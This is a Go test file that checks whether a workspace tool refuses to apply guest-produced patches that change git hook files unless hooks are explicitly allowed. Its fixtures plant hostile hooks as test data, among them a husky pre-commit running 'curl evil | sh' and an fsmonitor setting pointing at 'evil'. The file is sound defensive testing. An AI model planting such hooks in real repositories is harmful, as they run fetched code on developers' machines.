package workspace

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/banger-sh/banger/internal/errdefs"
)

// hookRepo is a host repository that uses hooks the ways a patch could
// reach: core.hooksPath in the work tree, a tracked git config file the
// repository's config includes, and a tracked husky hook; shipped to a
// guest copy.
func hookRepo(t *testing.T) (host string, info *DiskInfo, guest string) {
	t.Helper()
	r := newRepo(t)
	write(t, r, "a.txt", "a\n", 0o644)
	write(t, r, ".githooks/pre-push", "#!/bin/sh\nexit 0\n", 0o755)
	write(t, r, ".gitconfig", "[alias]\n\tst = status\n", 0o644)
	write(t, r, ".husky/old-hook", "#!/bin/sh\n", 0o755)
	git(t, r, "add", "-A")
	git(t, r, "commit", "-q", "-m", "init")
	git(t, r, "config", "core.hooksPath", ".githooks")
	git(t, r, "config", "include.path", "../.gitconfig")
	set, err := List(tctx(t), r, ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	info = buildKeep(t, r, set)
	guest = filepath.Join(t.TempDir(), "guest")
	copyTree(t, info.Staging, guest)
	return r, info, guest
}

// TestApplyRefusesHookFiles: --export apply applied whatever the guest
// changed, hooks included, so the host ran the guest's code at the next
// commit (issue 16, item 8). Apply now refuses a patch that changes hook
// files, naming them, and applies it only when asked.
func TestApplyRefusesHookFiles(t *testing.T) {
	r, _, g := hookRepo(t)
	ctx := tctx(t)
	laterSecond()
	write(t, g, "a.txt", "edited\n", 0o644)
	write(t, g, ".husky/pre-commit", "#!/bin/sh\ncurl evil | sh\n", 0o755)
	write(t, g, "web/.husky/pre-commit", "#!/bin/sh\n", 0o755)
	write(t, g, ".pre-commit-config.yaml", "repos: [{repo: local, hooks: [{id: x, entry: 'sh -c evil', language: system, name: x}]}]\n", 0o644)
	write(t, g, "lefthook.yml", "pre-commit:\n  commands:\n    x:\n      run: evil\n", 0o644)
	write(t, g, ".lefthook/pre-commit/x.sh", "evil\n", 0o755)
	write(t, g, ".githooks/post-checkout", "#!/bin/sh\nevil\n", 0o755) // core.hooksPath
	write(t, g, ".gitconfig", "[core]\n\tfsmonitor = evil\n", 0o644)   // included by the repo's config
	write(t, g, "docs/husky.md", "not a hook\n", 0o644)
	p, _ := runExport(t, g, 0)

	want := []string{".gitconfig", ".githooks/post-checkout", ".husky/pre-commit", ".lefthook/pre-commit/x.sh", ".pre-commit-config.yaml", "lefthook.yml", "web/.husky/pre-commit"}
	got, err := HookFiles(ctx, r, p)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(got, want) {
		t.Errorf("HookFiles = %q, want %q", got, want)
	}
	before := treeState(t, r)
	err = Apply(ctx, r, p)
	var he *HookError
	if !errors.As(err, &he) || !errors.Is(err, errdefs.ErrConflict) {
		t.Fatalf("Apply = %v, want a HookError", err)
	}
	t.Logf("%v", err)
	if !slices.Equal(he.Files, want) {
		t.Errorf("HookError names %q, want %q", he.Files, want)
	}
	sameState(t, "tree after a refused patch", treeState(t, r), before)

	if err := ApplyWith(ctx, r, p, ApplyOptions{AllowHooks: true}); err != nil {
		t.Fatalf("ApplyWith(AllowHooks): %v", err)
	}
	if b, _ := os.ReadFile(filepath.Join(r, ".husky/pre-commit")); !strings.Contains(string(b), "curl evil") {
		t.Errorf("allowed patch not applied")
	}
}

// TestApplyWithoutHookFiles: ordinary edits, and deleting a hook (which
// runs nothing), apply as before.
func TestApplyWithoutHookFiles(t *testing.T) {
	r, _, g := hookRepo(t)
	ctx := tctx(t)
	laterSecond()
	write(t, g, "a.txt", "edited\n", 0o644)
	write(t, g, "src/husky.go", "package x\n", 0o644)
	os.Remove(filepath.Join(g, ".husky/old-hook"))
	p, _ := runExport(t, g, 0)
	if got, err := HookFiles(ctx, r, p); err != nil || len(got) != 0 {
		t.Fatalf("HookFiles = %q, %v", got, err)
	}
	if err := Apply(ctx, r, p); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(r, ".husky/old-hook")); !os.IsNotExist(err) {
		t.Errorf("hook deletion not applied: %v", err)
	}
}
